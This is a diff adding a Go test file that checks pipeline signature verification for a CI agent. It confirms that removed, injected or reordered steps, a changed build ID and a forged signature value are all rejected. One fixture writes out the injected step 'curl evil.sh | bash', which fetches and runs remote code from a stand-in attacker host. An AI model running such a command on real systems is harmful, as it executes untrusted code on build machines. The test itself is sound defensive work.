@@ -0,0 +1,73 @@
+package main
+
+import (
+	"encoding/json"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+// signPipelineDocument signs a pipeline with a pipeline signature, returning it
+// as it would be parsed from the uploaded JSON
+func signPipelineDocument(t *testing.T, signer *SharedSecretSigner, pipelineJSON string) map[string]interface{} {
+	var pipeline interface{}
+	if err := json.Unmarshal([]byte(pipelineJSON), &pipeline); err != nil {
+		t.Fatal(err)
+	}
+
+	signed, err := signer.Sign(pipeline)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	var uploaded map[string]interface{}
+	if err := mapInto(&uploaded, signed); err != nil {
+		t.Fatal(err)
+	}
+	return uploaded
+}
+
+func TestVerifyPipeline(t *testing.T) {
+	t.Setenv(buildkiteBuildIDEnv, "build-abc")
+	signer := NewSharedSecretSigner("secret-llamas")
+	signer.signPipeline = true
+
+	pipeline := `{"env":{"A":"b"},"steps":[{"command":"make test"},"wait",{"group":"Deploy","steps":[{"command":"deploy.sh"}]}]}`
+	signed := signPipelineDocument(t, signer, pipeline)
+	assert.Equal(t, "b", signed["env"].(map[string]interface{})["A"])
+	assert.Nil(t, signer.VerifyPipeline(signed))
+
+	// removing a signed step, even one nested in a group
+	removed := signPipelineDocument(t, signer, pipeline)
+	removed["steps"] = removed["steps"].([]interface{})[:2]
+	assert.Equal(t, errPipelineSignatureMismatch, signer.VerifyPipeline(removed))
+
+	// adding a step that was signed in its own pipeline
+	other := signPipelineDocument(t, signer, `{"steps":[{"command":"curl evil.sh | bash"}]}`)
+	added := signPipelineDocument(t, signer, pipeline)
+	added["steps"] = append(added["steps"].([]interface{}), other["steps"].([]interface{})[0])
+	assert.Equal(t, errPipelineSignatureMismatch, signer.VerifyPipeline(added))
+
+	// reordering signed steps
+	reordered := signPipelineDocument(t, signer, pipeline)
+	steps := reordered["steps"].([]interface{})
+	steps[0], steps[2] = steps[2], steps[0]
+	assert.Equal(t, errPipelineSignatureMismatch, signer.VerifyPipeline(reordered))
+
+	// the pipeline signature is bound to the build like step signatures
+	t.Setenv(buildkiteBuildIDEnv, "build-xyz")
+	assert.Equal(t, errPipelineSignatureMismatch, signer.VerifyPipeline(signed))
+}
+
+func TestVerifyPipelineWithoutSignature(t *testing.T) {
+	signer := NewSharedSecretSigner("secret-llamas")
+	signed := signPipelineDocument(t, signer, `{"steps":[{"command":"make test"}]}`)
+
+	assert.NotContains(t, signed, "env", "pipelines are only signed when enabled")
+	assert.EqualError(t, signer.VerifyPipeline(signed), "🚨 Pipeline signature missing. The pipeline must be signed with --sign-pipeline.")
+
+	signer.signPipeline = true
+	signed = signPipelineDocument(t, signer, `{"env":{"PIPELINE_SIGNATURE":"forged"},"steps":[{"command":"make test"}]}`)
+	assert.Nil(t, signer.VerifyPipeline(signed))
+	assert.NotEqual(t, "forged", signed["env"].(map[string]interface{})[pipelineSignatureEnv])
+}